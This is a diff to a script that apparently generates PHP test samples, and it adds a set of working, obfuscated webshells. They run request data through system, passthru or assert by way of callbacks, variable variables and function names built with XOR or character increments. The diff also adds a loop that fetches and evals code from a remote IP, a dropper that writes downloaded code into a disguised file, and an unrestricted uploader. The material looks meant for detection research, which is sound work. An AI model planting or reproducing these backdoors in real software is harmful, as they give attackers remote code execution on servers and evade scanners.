@@ -527,3 +527,78 @@ if (@preg_match("/$kh(.+)$kf/", @file_get_contents("php://input"), $m) == 1) {
     print(base64_encode(@x(@gzcompress($o), $k)));
 }
 """)
+
+# ---------------- PHP: calls hidden in language corners ----------------
+# Bare names read as strings (PHP before 8 turned an undefined constant into its own name).
+w('php/split-strings/barewords.php', '''<?php
+$go = (pa.(ss).(thru));
+$go($_COOKIE['q']);
+''')
+# The output buffer's callback runs on what is printed.
+w('php/callbacks/output-buffer.php', '''<?php
+$flush = 'sys' . 'tem';
+ob_start($flush);
+echo $_POST['line'];
+ob_end_flush();
+''')
+# Comparison callbacks: request data handed to assert as keys or values being compared.
+w('php/callbacks/compare-keys.php', '''<?php
+$cmp = 'as' . 'sert';
+array_intersect_uassoc(array($_REQUEST['k'] => 1), array(0 => 1), $cmp);
+''')
+w('php/callbacks/compare-values.php', '''<?php
+array_udiff_assoc(array($_GET['v']), array('x'), 'assert');
+''')
+# The request supplies the head of the function's name; the file holds only its tail.
+w('php/callbacks/name-tail.php', '''<?php
+$run = $_SERVER['HTTP_X_PREFIX'] . 'tem';
+$run($_POST['a']);
+''')
+# Superglobals reached by looping over their names.
+w('php/variable-variables/loop-over-names.php', '''<?php
+foreach (array('_GET', '_POST') as $where) {
+    foreach ($$where as $fn => $arg) {
+        $fn($arg);
+    }
+}
+''')
+w('php/variable-variables/built-name.php', '''<?php
+$n = '_' . 'P' . 'OST';
+$req = $$n;
+$f = ('!' ^ '@') . 'ss' . 'ert';
+$f($req['z']);
+''')
+w('php/sinks/mb-eregi-e.php', '''<?php
+mb_eregi_replace('.*', $_POST['r'], 'seed', 'e');
+''')
+# Code fetched at run time: evaluated, or written into a script (a dropper).
+w('php/sinks/remote-eval.php', '''<?php
+ignore_user_abort(true);
+set_time_limit(0);
+while ($next = @file_get_contents('http://198.51.100.23/task.txt')) {
+    @eval($next);
+    sleep(30);
+}
+''')
+w('php/sinks/remote-dropper.php', '''<?php
+$src = 'https://paste.example.org/raw/k2j3';
+$body = file_get_contents($src);
+if ($body !== false) {
+    file_put_contents('wp-blog-cache.php', $body);
+}
+''')
+w('php/sinks/uploader-basename.php', '''<?php
+if (!empty($_FILES['doc'])) {
+    $to = './' . basename($_FILES['doc']['name']);
+    if (move_uploaded_file($_FILES['doc']['tmp_name'], $to)) {
+        echo 'saved';
+    }
+}
+''')
+# No letters at all: the names are built by incrementing and XOR-ing characters.
+w('php/computed-names/increment.php', '<?=' + '$_=[];$_=@"$_";$_=$_[\'!\'==\'@\'];' + '$__=$_;' + '++$__;' * 6 + '$___=$_;' + '++$___;' * 4 + '$____=$_;' + '++$____;' * 19 + '$_____=\'_\'.$__.$___.$____;$______=$$_____;$______[0]($______[1]);')
+w('php/computed-names/xor.php', '''<?php
+$_ = ("'" ^ '`') . ('%' ^ '`') . ('4' ^ '`');
+$__ = '_' . $_;
+${$__}[0](${$__}[1]);
+''')
